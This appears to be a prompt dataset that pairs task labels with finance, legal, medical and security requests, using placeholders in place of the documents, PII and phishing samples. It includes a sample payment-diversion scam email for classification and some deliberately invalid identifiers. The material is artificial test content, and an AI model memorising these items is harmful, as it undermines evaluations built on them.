math f l p => How much interest do I pay in total on a £15,000 car loan at 7.9% APR over 4 years ;; reasoning f m p => is that better than the dealer's 0% deal with a price £2,000 higher? | How much interest do I pay in total on a £15,000 car loan at 7.9% APR over 4 years, and is that better than the dealer's 0% deal with a price £2,000 higher?
summarize f l i => Summarise this for the all-hands in two sentences ;; extract f l i => list every number that relates to cash | Summarise this for the all-hands in two sentences. Also list every number that relates to cash. {Q3_REPORT}
extract f l c => 1) pull out the policy number, excesses and renewal date ;; qa f l p => 2) what does "legal expenses cover" actually cover ;; draft f l c => 3) draft a two-line email asking them to remove it at renewal | Three things: 1) pull out the policy number, excesses and renewal date 2) what does "legal expenses cover" actually cover 3) draft a two-line email asking them to remove it at renewal {POLICY_SCHEDULE}
classify f l p => tag each transaction as groceries, transport, bills or fun ;; math f l p => then tell me the total per tag | tag each transaction as groceries, transport, bills or fun, then tell me the total per tag: Tesco 42.10, TfL 6.80, Octopus Energy 88.00, Odeon 23.50, Aldi 31.25, Uber 14.60, Thames Water 39.00, Deliveroo 27.90
translate f l i => Translate this payment reminder into Italian ;; draft f l i => write a firmer version for accounts 60 days overdue | Translate this payment reminder into Italian, and write a firmer version for accounts 60 days overdue: "Just a friendly reminder that invoice 2025-114 for EUR 1,860 was due on 15 April. If you've already paid, please ignore this message."
qa f l p => What's the difference between APR and APY? ;; math f l p => If a savings account pays 4.5% compounded monthly, what's the APY? | What's the difference between APR and APY? If a savings account pays 4.5% compounded monthly, what's the APY?
extract f l r => give me the IBAN, amount and PO number ;; classify s l r => is this a normal supplier request or a likely payment-diversion scam? | From this email, give me the IBAN, amount and PO number, and is this a normal supplier request or a likely payment-diversion scam? "Hi, please note our bank details have changed with immediate effect. Pay the outstanding EUR 18,400 for PO-7731 to {IBAN1} and confirm by reply today. Our accounts team is being audited so please don't call."
reasoning f m p => Should I take the £85,000 lump sum or the £6,200 a year pension from 60 ;; math f l p => at what age would the pension have paid out more than the lump sum? | Should I take the £85,000 lump sum or the £6,200 a year pension from 60? Also, at what age would the pension have paid out more than the lump sum?
math f l p => 1) how much do we need to save each month to reach a £30,000 deposit by then, counting their £10k ;; reasoning f m p => 2) is a Lifetime ISA worth it for us given the £450k price cap ;; draft f l p => 3) draft a gifted-deposit letter for my parents to sign for the lender | My partner and I earn about £38k and £31k, rent at £1,250 a month and have £11,400 saved so far. We'd like to buy a flat around £320k in Bristol in two years, and my parents have said they could put in £10k. A few questions: 1) how much do we need to save each month to reach a £30,000 deposit by then, counting their £10k 2) is a Lifetime ISA worth it for us given the £450k price cap 3) draft a gifted-deposit letter for my parents to sign for the lender
sentiment f l p => how do shareholders feel about the dividend cut ;; summarize f l p => summarise the main complaints in one line each | From these comments, how do shareholders feel about the dividend cut? Then summarise the main complaints in one line each. "Cutting the dividend by half with no warning is a breach of trust." / "I understand preserving cash, but the buyback last year makes this look incompetent." / "Fine by me if it funds the new plant." / "Management keeps moving the goalposts."
code f l i => Write a SQL query that totals unpaid invoices by customer and ageing bucket (0-30, 31-60, 61-90, 90+ days) ;; reasoning f m i => which customers should we chase first if we can only call five this week? | Write a SQL query that totals unpaid invoices by customer and ageing bucket (0-30, 31-60, 61-90, 90+ days), and which customers should we chase first if we can only call five this week? Table invoices(customer_id, amount, due_date, paid_at).
qa f l p => what's dollar-cost averaging ;; reasoning f m p => does it make sense for a £20k inheritance or should I put it in all at once? | what's dollar-cost averaging, and does it make sense for a £20k inheritance or should I put it in all at once?
extract f l c => List each direct debit with its amount and date ;; math f l c => then add them up ;; reasoning f m c => and tell me which two I could cancel first to save the most without hurting me | List each direct debit with its amount and date, then add them up, and tell me which two I could cancel first to save the most without hurting me. {STATEMENT}
summarize f l p => Summarise this fee notice in one sentence ;; translate f l p => then give me the same sentence in Polish for my dad | Summarise this fee notice in one sentence, then give me the same sentence in Polish for my dad: "From 1 September, accounts that do not receive a monthly deposit of at least £1,000 will be charged a £5 monthly maintenance fee. Customers aged 65 or over, and students, are exempt."
qa f l p => What is a P60? ;; draft f l p => Write a short email asking payroll for last year's copy. | What is a P60? Write a short email asking payroll for last year's copy.

# hard negatives
!extract f l i | What are the invoice and PO numbers and the amount? "Invoice INV-2025-00417 / PO 4500021987, amount due EUR 12.480,00, reference number {BADCARD1}"
!reasoning f m p | Why would my banking app reject the IBAN {BADIBAN1} when I try to add it as a payee? I copied it from the supplier's invoice.
!draft f l i | Write a reminder for unpaid invoice INV-2024-00981 (EUR 4.250,00, due 2024-11-30), PO 7700112233, order #88120457.
!math f l p | order #55102948: 3 items at 14.99, shipping 4.95 and a 10% discount code on the items only - what's the total?
"""

LEGAL = r"""
# lease break clause
qa l l p | what does "break clause" mean in a tenancy agreement?
reasoning l m p | My tenancy started 1 February on a 12-month fixed term. My landlord served notice last week, in month 4, saying I have to leave at the end of month 6. Can he actually do that under this clause? {BREAK_CLAUSE}
summarize l l p | tl;dr this clause {BREAK_CLAUSE}
extract l l p | pull out the notice period and the earliest point the break can take effect {BREAK_CLAUSE}
draft l l c | Write a letter to my landlord, {P_LL}, giving notice under the break clause that I'll leave on 31 August and asking for my deposit back under clause 9.
translate l l p | translate this clause into Polish for my flatmate: {BREAK_CLAUSE}
classify l l p | tenant's job or landlord's job: servicing the boiler, paying council tax, protecting the deposit in a scheme, reporting damp promptly, giving 24 hours' notice before visits, not subletting without consent
chat g l p | thanks, that break clause explanation really helped

# NDA from a supplier
qa l l p | difference between a mutual and a one-way NDA?
classify l l i | For each of these clauses say standard, unusual or red flag: {NDA_CLAUSES}
reasoning l m i | A supplier wants us to sign their NDA with these terms before a two-month pilot. Which would you push back on, and how hard? {NDA_CLAUSES}
summarize l l i | What are we actually agreeing to here? Short bullets. {NDA_CLAUSES}
draft l h i | Draft a mutual NDA for a two-month pilot with a logistics partner: English law, three-year confidentiality term, no non-solicit, the usual carve-outs.
draft l l i | email back to their counsel proposing five years instead of ten and deleting clause 4 entirely
extract l l i | which clause numbers mention a time period, and what period? {NDA_CLAUSES}

# dismissal
qa l l p | How long do you have to work for an employer in the UK before you can claim unfair dismissal?
reasoning l m c | Do I have a claim here, and what kind? {DISMISSAL_TIMELINE}
extract l l c | list every date and what happened on it, as a table {DISMISSAL_TIMELINE}
sentiment l l c | how hostile is this email from HR, honestly? {HR_EMAIL}
draft l l c | Write a calm reply to HR asking for the reasons for my dismissal in writing and a copy of my personnel file. {HR_EMAIL}
math l l p | statutory redundancy pay: I'm 45, 8 full years of service, £720 a week gross. What do I get with the £700 weekly cap?
qa l l p | what is ACAS early conciliation and do I have to go through it before a tribunal?
summarize l l c | Summarise my situation in three sentences for an employment solicitor's intake form. {DISMISSAL_TIMELINE}

# data protection
qa l l p | how long does a company have to answer a subject access request under UK GDPR?
draft l l c | Write a subject access request to my former employer, Fenwick Logistics, for all emails and notes mentioning me since March 2023. I'm {P_EMP}, reply to {E_EMP}.
classify l l p | personal data or not: an IP address, a company registration number, an employee ID, survey averages for a team of 200, a photo of a staff member at a party
reasoning l m i | A customer asked us to erase all their data, but we're in an open dispute with them over an unpaid invoice. What can we keep, on what basis, and what do we tell them?
math l l p | GDPR fines can go up to 4% of worldwide annual turnover or EUR 20m, whichever is higher. What's the ceiling for a group with EUR 1.3bn turnover?
translate l l p | translate "data controller" and "legitimate interest" into French and German
code l l p | Python function that takes the date a SAR was received and returns the one-month response deadline, moving it to the next working day if it lands on a weekend

# builder dispute / small claims
qa l l p | what's the small claims limit in England and Wales?
reasoning l m p | A roofer charged me £4,800, the roof leaked within two months and he says it's because I picked the cheaper felt. I've no written quote, only texts. Small claims or mediation first, and how strong is my case?
summarize l l p | summarise this judgment in two sentences for a client {JUDGMENT}
extract l l p | from this judgment give me the contract price, the award and the statute relied on {JUDGMENT}
draft l l c | Draft a letter before action to the roofer, {P_ROOF}, demanding £3,150 for remedial work within 14 days.
translate l l p | how do you say "letter before action" in Spanish? the builder is from Valencia
sentiment l l p | Is this message from the builder conciliatory or hostile? "I've done roofs for 25 years and never had a complaint. You chose the felt, not me. If you want to waste money on court go ahead, I'll see you there."

# SaaS terms
qa l l p | what's a limitation of liability clause, in one paragraph?
extract l l p | governing law, courts and liability cap from these terms: {SAAS_TERMS}
classify l l p | Label each clause fair, borderline or likely unfair if the customer is a consumer: {SAAS_TERMS}
reasoning l m i | We're a 20-person agency signing up to this as a business. Is the three-month liability cap enforceable against us, and is it worth trying to negotiate? {SAAS_TERMS}
summarize l l p | what do these terms mean for me as a user, 3 bullets {SAAS_TERMS}
code g l p | regex that finds clause references like 12.1, 12.3(b) or 15 in contract text, so I can link them

# copyright
qa l l p | how long does copyright last in the EU after the author dies?
reasoning l m p | can I use a 15 second clip of a chart song in a YouTube review of the album, or will I get a copyright strike?
draft l l p | write a DMCA takedown notice for a site that copied my photography portfolio image for image
classify l l p | which of these are likely fair dealing in the UK: quoting two lines in a book review, reposting a full news article, a parody song, a logo shown in a news report, selling T-shirts with a film still
creative g l p | write a tongue-in-cheek copyright notice for my cat's Instagram

# consumer refund
qa l l p | how long do I have to return something bought online in the UK?
reasoning l m p | My £600 washing machine broke after 7 months. The shop says it's the manufacturer's problem because it's past 6 months. Are they right?
draft l l p | write a firm email to the shop saying the washing machine is faulty under the Consumer Rights Act and asking for a repair or replacement within 14 days
classify l l p | Which of these are you entitled to a refund for: a faulty kettle returned after 20 days, a dress that doesn't suit you bought in store, concert tickets for a gig you can't attend, a phone bought online returned unopened after 10 days

# wills and estates
qa l l p | what happens to someone's estate in England if they die without a will?
reasoning l m p | My dad remarried last year, has two kids from his first marriage (me and my brother) and no will. If something happened to him, would we get anything, or would it all go to his wife?
draft l l p | draft a simple letter of wishes to go with my will about who looks after my dog and who gets my record collection
translate l l p | translate "lasting power of attorney" and "executor" into Portuguese
creative g l p | opening paragraph of a cosy mystery where a will goes missing at the reading

# tenancy deposit
qa l l p | does a landlord in England have to protect a tenancy deposit, and by when?
math l l p | Rent is £1,450 a month. What's the most the landlord can take as a deposit under the five-week cap?
reasoning l m p | My landlord wants to keep £600 of my deposit for "professional cleaning" although I cleaned everything and have photos. Is that allowed, and should I use the deposit scheme's free dispute service?
draft l l p | write a short email to my landlord asking for the full deposit back within 10 days, noting the flat was left clean and I have dated photos
sentiment l l p | How does the judge come across towards the landlord in this extract: "The landlord's explanation for failing to protect the deposit for eleven months was, to put it charitably, unconvincing, and his evidence on the inventory was contradicted by his own photographs."
summarize l l p | one-sentence summary of that extract for my flatmate: "The landlord's explanation for failing to protect the deposit for eleven months was unconvincing, and his evidence on the inventory was contradicted by his own photographs."

# employment compliance
draft l h i | Write the employee handbook section on hybrid working: eligibility, how to request, core hours, equipment and expenses, health and safety at home, data protection, and how arrangements are reviewed or ended.
qa l l p | does UK law require a written statement of employment particulars from day one?
draft l h i | Write a whistleblowing policy for a 150-person UK company: scope, how to raise a concern, protection from retaliation, investigation steps, record keeping.
classify l l i | which of these job-ad phrases could be discriminatory: "digital native", "recent graduate", "fluent English", "must be able to lift 20kg", "young and dynamic team"
reasoning l m i | Our warehouse staff want to swap to four 10-hour days. What do we need to check legally before saying yes?

# PII
translate l l r | translate into Chinese: "I, {P_SGL}, NRIC {NRIC1}, authorise my daughter to collect documents from the court registry on my behalf."
extract l l r | Pull out the name, NRIC and the scope of authority from this: "I, {P_SGL}, NRIC {NRIC1}, authorise my daughter to collect documents from the court registry on my behalf until 31 December 2025."
draft l l c | Write a witness statement opening for {P_C3}, who saw the collision at the junction of Mill Lane on 4 March and can be reached at {PH_C2}.

# multi-task
qa l l p => What's a non-compete clause ;; reasoning l m p => is the 12-month one in my contract likely enforceable if I join a competitor in a different city? | What's a non-compete clause, and is the 12-month one in my contract likely enforceable if I join a competitor in a different city?
summarize l l p => Summarise these terms in three bullets ;; classify l l p => then flag which clause is most likely unfair to consumers | Summarise these terms in three bullets, then flag which clause is most likely unfair to consumers. {SAAS_TERMS}
extract l l c => 1. list the parties and the dates ;; summarize l l c => 2. summarise what each party must do ;; draft l l c => 3. write a cover email to the client sending it for signature | 1. list the parties and the dates 2. summarise what each party must do 3. write a cover email to the client sending it for signature {SERVICES}
reasoning l m p => Can my employer make me work unpaid overtime ;; draft l l p => write a short email to my manager raising it politely | Can my employer make me work unpaid overtime if my contract says "such additional hours as are reasonably required"? If not, write a short email to my manager raising it politely.
sentiment l l i => what's the tone of this letter from their solicitors ;; reasoning l m i => do we need to respond before the 14 days are up? | "Our client has been more than patient. Unless payment of £12,400 is received within 14 days, proceedings will be issued without further notice and our client will seek its full costs." - what's the tone of this letter from their solicitors, and do we need to respond before the 14 days are up?
qa l l p => what is probate ;; qa l l p => how long does it usually take in England? | what is probate and how long does it usually take in England?
classify l l i => Tag each of these contract requests by urgency (today, this week, later) ;; draft l l i => draft a one-line acknowledgement I can send to each requester | Tag each of these contract requests by urgency (today, this week, later) and draft a one-line acknowledgement I can send to each requester: (1) sales needs an NDA signed before a 9am call tomorrow, (2) procurement wants the cleaning contract renewed, expires in 3 months, (3) HR asks for a review of the new hybrid-working policy, (4) a customer has threatened to sue over a late delivery and wants a reply by 5pm today.
extract l l p => give me the statute and section cited ;; summarize l l p => and a one-paragraph summary | From this judgment give me the statute and section cited and a one-paragraph summary. {JUDGMENT}
math l l p => if the court adds simple interest at 8% a year on £3,150 from 1 March to 1 September, how much is that ;; qa l l p => is 8% always the rate on county court claims? | Two questions: if the court adds simple interest at 8% a year on £3,150 from 1 March to 1 September, how much is that? And is 8% always the rate on county court claims?
reasoning l m p => 1) is what my employer is doing allowed ;; qa l l p => 2) what's the time limit for bringing a tribunal claim ;; draft l l p => 3) draft a short grievance letter I can send to HR | I work 30 hours a week as a care coordinator and told my manager I was pregnant in April. Since then my shifts have been moved to evenings and weekends, which I can't do with my antenatal appointments, and I've been left off the rota for the team lead role I was told I'd get. My manager says it's "just operational". 1) is what my employer is doing allowed 2) what's the time limit for bringing a tribunal claim 3) draft a short grievance letter I can send to HR
translate l l c => Translate this letter into English ;; summarize l l c => then tell me in one sentence what it means for me | Translate this letter into English, then tell me in one sentence what it means for me. {DE_LETTER}
classify l l p => which of these disputes can go through the small claims track ;; qa l l p => what's the court fee for a £2,000 claim? | which of these disputes can go through the small claims track: a £3,000 unpaid invoice, a £40,000 building defect, a £900 deposit not returned, a personal injury worth £1,500? Also, what's the court fee for a £2,000 claim?
qa l l p => what does "without prejudice" mean ;; reasoning l m i => can we show this email to the judge if the other side won't settle? | what does "without prejudice" mean, and can we show this email to the judge if the other side won't settle? The email is headed "Without prejudice save as to costs" and offers £8,000 in full and final settlement.

# hard negatives
!extract l l p | Give me the claim number, section reference and hearing time: "Claim K00BR412, see section 4.2.1.3 of the practice direction, hearing at 10:30:00 on 2025-07-14, appeal ref CA-2024-001873."
!summarize l l p | One line on this docket entry: "Case 2:24-cv-01187, filed 2024-03-19, ECF No. 42, order granting motion to dismiss in part; amended complaint due 2024-05-03."
"""

MEDICAL = r"""
# ibuprofen
qa m l p | is ibuprofen an NSAID?
math m l p | my son weighs 18 kg. ibuprofen dose is 10 mg/kg and the syrup is 100 mg per 5 mL - how many mL do I give him?
reasoning m m p | My mum is 78, takes warfarin and has awful back pain. Is ibuprofen OK for her, or is there something safer she could ask her GP about?
classify m l p | Which of these can you buy over the counter in the UK without a prescription: ibuprofen 200 mg, amoxicillin 500 mg, omeprazole 20 mg (pack of 14), sertraline 50 mg, paracetamol 500 mg, codeine 30 mg
translate m l p | Translate this label into Spanish for my grandmother: "Take one tablet every 6 to 8 hours with food. Do not take more than 3 tablets in 24 hours. Do not use if you have a stomach ulcer."
summarize m l p | In two lines, what does this leaflet section actually say? "Like other NSAIDs, ibuprofen may be associated with a small increased risk of heart attack or stroke, particularly at high doses and with long-term use. Do not exceed the recommended dose or duration of treatment. Talk to your pharmacist or doctor before taking this medicine if you have heart problems, high blood pressure, or have had a stroke, or if you think you might be at risk of these conditions."
creative g l p | get-well-soon poem for my nan, she's laid up with a bad back and hates being told to rest

# discharge summary
summarize m l c | Three lines for the GP: {DISCHARGE}
extract m l c | list every medication with dose and frequency {DISCHARGE}
reasoning m m c | Is there anything in this discharge that the GP should act on this week rather than at the routine review? {DISCHARGE}
draft m l c | Write a plain-language letter to the patient explaining what to take and what happens next. {DISCHARGE}
translate m l c | Translate the GP instructions at the end into Portuguese, her daughter will read them. {DISCHARGE}
math m l c | What's the percentage rise in creatinine during the admission? {DISCHARGE}
classify m l c | Label each problem in this summary as acute, chronic or resolved. {DISCHARGE}

# symptoms and triage
qa m l p | what are the usual symptoms of a UTI?
reasoning m m p | I'm 52, I've had a headache every morning for 5 days, worse when I bend over, and some blurry vision yesterday. Wait for my GP appointment next week or go in today?
classify m l p | Triage each message as urgent (same day), soon (this week) or routine: {TRIAGE_MSGS}
sentiment m l p | how anxious does this patient sound? "Sorry to message again. The biopsy was 11 days ago and nobody has called. I can't sleep, I keep checking my phone. Is no news good news? Please just tell me something."
draft m l p | Write a kind holding reply to that patient from the clinic team: results usually take 14 days and we'll call as soon as they're in.
chat g l p | thanks, that actually makes me feel a bit calmer
extract m l p | Which of these messages mention a child, and what age? {TRIAGE_MSGS}

# diabetes
qa m l p | what does HbA1c measure?
math m l p | insulin-to-carb ratio 1:10, correction 1 unit per 2.5 mmol/L above 7. I'm eating 65 g of carbs and my sugar is 12. How many units?
extract m l c | pull out every reading above 10 with its day and time {GLUCOSE_LOG}
code m l p | python function that flags glucose readings below 4 or above 10 mmol/L and counts the lows and highs per day
reasoning m m c | My readings after breakfast are always the high ones. What might be going on, and what should I ask the diabetes nurse? {GLUCOSE_LOG}
creative g l p | a short rhyme to help my 8-year-old remember to check his blood sugar before football
summarize m l c | one sentence on this week's readings for my nurse {GLUCOSE_LOG}
math m l c | average of these readings, and how many are in the 4-10 range? {GLUCOSE_LOG}

# patient feedback
sentiment m l p | Overall, are these patient comments positive or negative, and which is the angriest? {PATIENT_COMMENTS}
classify m l p | Tag each comment: waiting time, staff, cleanliness or billing. {PATIENT_COMMENTS}
summarize m l p | one-paragraph summary of this feedback for the ward managers' meeting {PATIENT_COMMENTS}
draft m l p | reply to the patient who was charged for parking when the machine was broken: apologise and explain how to claim the refund
extract m l p | which staff and wards are named in these comments? {PATIENT_COMMENTS}

# travel health
qa m l p | how long before a trip do you need the yellow fever vaccine?
reasoning m m p | I'm 20 weeks pregnant and going to a wedding in Thailand in 6 weeks. Which travel vaccines are OK and which should I skip?
translate m l p | how do I say "I'm allergic to penicillin" in Thai and in Japanese?
math m l p | the thermometer says 101.3 F - what's that in Celsius?
classify m l p | live or inactivated: MMR, yellow fever, hepatitis A, typhoid injection, oral typhoid, rabies

# trial abstract
summarize m l p | plain-English summary of this abstract for a patient-group newsletter, about 80 words {TRIAL_ABSTRACT}
extract m l p | Give me n, follow-up, the primary outcome rates, the HR with CI, and the adverse event figures. {TRIAL_ABSTRACT}
qa m l p | what is a number needed to treat?
math m l p | Using these numbers, what's the absolute risk reduction and the NNT? {TRIAL_ABSTRACT}
reasoning m m p | My dad (74, heart failure, eGFR 28) read about this trial and wants his cardiologist to switch him to drug X. Does this abstract support that for someone like him? {TRIAL_ABSTRACT}
sentiment m l p | Is the conclusion of this abstract cautious or enthusiastic compared to the results it reports? {TRIAL_ABSTRACT}

# mood and sleep
qa m l p | is melatonin a hormone or a supplement?
reasoning m m p | I've been sleeping 4-5 hours a night for a month since starting a new job and I feel flat most days. Just stress, or worth seeing someone about?
sentiment m l p | Does this journal entry read as low mood or just tiredness? "Didn't want to get up again. Cancelled on Sam for the third time. Everything feels like a lot of effort and nothing's fun any more, but I'm still going to work."
creative g l p | write a gentle two-line affirmation I can stick on my mirror

# asthma
qa m l p | what's the difference between a reliever and a preventer inhaler?
reasoning m m p | My 9-year-old is using her blue inhaler 4-5 times a week now, up from about once. Worth a GP visit, or normal for spring pollen?
math m l p | Her preventer has 120 puffs and she takes 2 puffs twice a day. How many days does one inhaler last?
draft m h i | Write an asthma care plan template for our primary school: daily medicines, triggers, signs of an attack, step-by-step what to do, when to call 999, and parent contact fields.
translate m l p | how do I say "she has asthma and her inhaler is in the front pocket of her bag" in French?
classify m l p | trigger or not for most asthmatics: cold air, pollen, paracetamol, cat dander, exercise, cigarette smoke, drinking water

# food allergy
qa m l p | what's the difference between a food allergy and an intolerance?
reasoning m m p | My son (6) got hives round his mouth after peanut butter on toast, nothing else, settled in an hour. Do we need to see someone, and can he have nuts at his friend's party on Saturday?
translate m l p | allergy card for our trip to Italy: translate "I have a severe allergy to peanuts and tree nuts. Even traces can make me very ill. Please check all ingredients." into Italian
creative g l p | a short, not-scary story for a 6-year-old about a boy who has to carry his allergy pen everywhere
classify m l p | Which of these usually contain tree nuts: pesto, marzipan, Nutella, hummus, praline, satay sauce?

# care home handover
summarize m l c | Summarise the night handover in three bullets for the day nurse {CARE_HANDOVER}
extract m l c | list each resident's room, the issue and any action still outstanding {CARE_HANDOVER}
classify m l c | Which of these need escalating to the GP or another service today, and which can wait? {CARE_HANDOVER}
reasoning m m c | The resident in room 4 was restless and drank only 150 mL overnight. What could be behind it, and what should the day team watch for? {CARE_HANDOVER}
sentiment m l c | How upset does the daughter sound? "I only found out about Mum's fall from the night carer's voicemail at 7am. Nobody called the GP. Is this really the standard of care we're paying for?"
draft m l c | Write a reply to the daughter of the resident in room 7 explaining what happened after the fall, what checks were done and what we'll do differently. {CARE_HANDOVER}

# coding and records
classify m l p | give the ICD-10 code for each: type 2 diabetes without complications, essential hypertension, community-acquired pneumonia unspecified, migraine without aura
code m l i | SQL: patients whose latest HbA1c is over 58 mmol/mol and who haven't had a diabetes review in 6 months. Tables results(patient_id, test, value, taken_on), reviews(patient_id, type, seen_on).
extract m l r | Pull patient name, NRIC, allergies and current meds: "Pt {P_SG}, NRIC {NRIC2}, 63M, known allergy to sulfonamides (rash). Meds: amlodipine 5 mg OD, atorvastatin 20 mg ON. Seen for follow-up of hypertension, BP 138/84."
draft m l c | Email the patient {P_PAT} at {E_PAT} reminding her of the chest X-ray in six weeks and the blood test next Tuesday.
classify m l r | Which fields in this intake form are health data and which are identifiers? "Name {P_GYM}; NRIC {NRIC1}; asthma since childhood; uses salbutamol; emergency contact {PH_SG}"

# multi-task
qa m l p => What's the difference between paracetamol and ibuprofen ;; reasoning m m p => which one should I take for a sprained ankle if I have mild asthma? | What's the difference between paracetamol and ibuprofen, and which one should I take for a sprained ankle if I have mild asthma?
summarize m l c => Summarise this note in two lines ;; extract m l c => then list any allergies mentioned | Summarise this note in two lines, then list any allergies mentioned. {CLINIC_NOTE}
math m l p => work out the BMI for 68 kg and 172 cm ;; qa m l p => is that in the healthy range for a 60-year-old man? | work out the BMI for 68 kg and 172 cm - is that in the healthy range for a 60-year-old man?
translate m l p => Translate these aftercare instructions into Arabic ;; draft m l p => write a two-line text reminding the patient that the stitches come out on day 10 | Translate these aftercare instructions into Arabic, and write a two-line text reminding the patient that the stitches come out on day 10: "Keep the wound dry for 48 hours. After that you may shower but do not soak it. Watch for redness, swelling or pus and call us if they appear."
classify m l p => which of these need an ambulance straight away ;; qa m l p => what does FAST stand for? | which of these need an ambulance straight away: sudden face drooping, a sprained wrist, crushing chest pain, a migraine like my usual ones, sudden slurred speech? and what does FAST stand for?
extract m l c => 1) list the abnormal results ;; reasoning m m c => 2) what could explain them together ;; draft m l c => 3) draft a message asking the patient to book repeat bloods | 1) list the abnormal results 2) what could explain them together 3) draft a message asking the patient to book repeat bloods {LAB_RESULTS}
sentiment m l p => how does this reviewer feel about the practice ;; summarize m l p => summarise the two main complaints | "The GPs themselves are lovely but getting an appointment is impossible - 8am phone scramble, 40 minutes on hold, then told to try tomorrow. And the online system hasn't worked since March." - how does this reviewer feel about the practice? Also summarise the two main complaints.
math m l p => how many days will a 150 mL bottle last at 5 mL three times a day ;; qa m l p => should you finish an antibiotic course even if you feel better? | how many days will a 150 mL bottle last at 5 mL three times a day, and should you finish an antibiotic course even if you feel better?
qa m l p => 1. Is donepezil linked to falls? ;; reasoning m m p => 2. What should we raise at his medication review? ;; draft m l p => 3. Write a short email to his GP practice asking for an earlier review. | My father is 81 and lives alone. He was diagnosed with mild Alzheimer's last year and takes donepezil 10 mg, amlodipine 5 mg and a water tablet in the morning. Over the last month he has fallen twice at night on the way to the bathroom and seems dizzier when he stands up. His next review isn't until October. 1. Is donepezil linked to falls? 2. What should we raise at his medication review? 3. Write a short email to his GP practice asking for an earlier review.
code m l p => Write a regex that finds drug doses like "500 mg" or "2.5mg" ;; extract m l c => then list what it would catch in this note | Write a regex that finds drug doses like "500 mg" or "2.5mg", then list what it would catch in this note: "{P_NOTE} takes sertraline 50mg OD and omega-3 1000 mg; started on naproxen 250 mg BD for 5 days."
classify m l p => Which of these are common side effects of metformin ;; translate m l p => translate the ones that are into Tagalog for my mum | Which of these are common side effects of metformin: nausea, hair loss, diarrhoea, metallic taste, weight gain, stomach cramps? Then translate the ones that are into Tagalog for my mum.
sentiment m l c => how worried the family sounds ;; draft m l c => write a reply from the unit manager offering a call today | Read this email and tell me how worried the family sounds, then write a reply from the unit manager offering a call today. "Mum has seemed much more confused since the new tablets were started on Monday and she didn't recognise me on the phone last night. Has anyone checked whether the medication could be doing this? We're very worried." - {P_C1}
math m l p => If a child's paracetamol dose is 15 mg/kg and she weighs 14 kg, how many mL of 120 mg/5 mL suspension is that ;; qa m l p => how many hours apart should doses be? | If a child's paracetamol dose is 15 mg/kg and she weighs 14 kg, how many mL of 120 mg/5 mL suspension is that? And how many hours apart should doses be?
summarize m l p => tl;dr this abstract ;; qa m l p => what does "hazard ratio" mean? | tl;dr this abstract, and what does "hazard ratio" mean? {TRIAL_ABSTRACT}

# hard negatives
!classify m l p | Is "{BADNRIC}" on this old ward label an NRIC or a bed-management reference? It doesn't pass the checksum in our system.
!extract m l p | List the lot numbers and expiry dates: "Batch LOT-240917-B exp 2026-09-30; batch LOT-241102-A exp 2027-01-31; device serial SN-4471-0932-1185."
"""

SECURITY = r"""
# phishing email
classify s l i | phishing or legit? {PHISH1}
extract s l i | list every indicator in this email - sender, domain, link, anything else we could block {PHISH1}
sentiment s l i | what's the emotional tone of this - how much urgency and fear is it trying to create? {PHISH1}
draft s l i | write a short all-staff warning about this email, including what to do if they clicked {PHISH1}
reasoning s m i | Twelve people clicked the link in this and two typed their passwords before we blocked the domain. What do we do first, and in what order? {PHISH1}
translate s l i | Translate this warning into German for the Munich office: "Do not click the link in today's 'mailbox disabled' email. It is a phishing attempt. If you entered your password, change it now and call the service desk on extension 4400."
summarize s l i | Summarise this in one line for the incident channel {PHISH1}

# authentication
qa s l p | how does Kerberos work, simply?
qa s l p | what's the difference between authentication and authorisation?
reasoning s m i | We still have NTLM enabled on about 40 legacy Windows servers. Turn it off now, or audit first? What would you do?
code s l p | PowerShell to list AD user accounts with "password never expires" set
classify s l p | Which factor type is each (knowledge, possession, inherence): PIN, YubiKey, fingerprint, SMS code, security question, authenticator app, face unlock
math s l p | how many bits of entropy in a random 12-character password drawn from upper, lower and digits (62 symbols)?
chat g l p | you explained Kerberos better than my lecturer ever did, cheers

# ssh log
extract s l c | list each source IP with the usernames it tried {SSH_LOG}
summarize s l c | what happened here, in two sentences? {SSH_LOG}
classify s l c | Brute force, credential stuffing, or a real user who mistyped their password? {SSH_LOG}
reasoning s m c | jsmith's login succeeded and then fetched a script as root. Do we isolate bastion-01 now or watch it a bit longer? {SSH_LOG}
code s l p | one-liner to count failed SSH logins per source IP from /var/log/auth.log, sorted descending
draft s l c | write the incident ticket for this: impact, timeline, actions so far {SSH_LOG}

# vulnerability advisory
qa s l p | what does a CVSS score actually measure?
summarize s l p | Summarise this advisory for a non-technical manager, three sentences max {ADVISORY}
extract s l p | affected versions, fixed version, CVSS and workaround please {ADVISORY}
reasoning s m i | We run Orbit CMS 3.4.1 on our public marketing site and can't upgrade until a change freeze ends Friday. Patch now anyway, apply the workaround, or take the site down? {ADVISORY}
draft s l i | Write an emergency change request to upgrade Orbit CMS to 3.4.3 tonight on the public marketing site.
classify s l i | Put each in critical, high or can-wait for patching: Orbit CMS path traversal (internet-facing, exploited), OpenSSL DoS on an internal build server, Chrome update on laptops, printer firmware XSS (internal only)
translate s l p | translate the workaround line into Spanish for our hosting provider {ADVISORY}

# access control
draft s h i | Write an access control policy for a 200-person company: roles, joiner-mover-leaver process, privileged access, quarterly reviews, exceptions.
extract s l i | from this access review, list admin accounts with no login since 12 March 2025 {ACCESS_REVIEW}
classify s l i | Flag each row as keep, review or remove: {ACCESS_REVIEW}
reasoning s m i | A contractor needs write access to the production billing database for two weeks to fix a data migration. How should we grant it safely?
qa s l p | what is the principle of least privilege?
sentiment s l i | How frustrated is this user, and is it aimed at IT or at the policy? "Third time this week the MFA prompt has locked me out mid-call with a client. I get why we need it but whoever configured this clearly never has to use it."
summarize s l i | two-line summary of this access review for the audit file {ACCESS_REVIEW}

# malware
qa s l p | what's the difference between a virus and a worm?
reasoning s m i | EDR flagged PowerShell launching from Excel on a finance laptop at 02:10 and the user says they were asleep. Isolate the laptop immediately or collect more evidence first?
summarize s l c | summarise this EDR alert for the on-call manager {EDR_ALERT}
extract s l c | give me the host, user, parent process, hash and destination from this alert {EDR_ALERT}
classify s l c | true positive, likely false positive, or needs more data? {EDR_ALERT}
creative g l p | Write a short, funny poem for our security newsletter about a password that refused to be changed.
creative g l p | name ideas for our phishing simulation programme, something less boring than "Phish Test 2025"

# account takeover
qa s l p | what is SIM swapping?
reasoning s m p | I got a text with a 2FA code I didn't request, then an email saying my Instagram password was changed. What should I do first?
draft s l c | write to Instagram support: my account {E_IG} was taken over on 3 June, the email and phone on it were changed, please help me get it back
classify s l p | scam or genuine: "Your parcel is held, pay £1.45 to release it", "We will never ask for your full PIN", "HMRC: you're owed a tax refund, click here", "Your Netflix payment failed, update here"
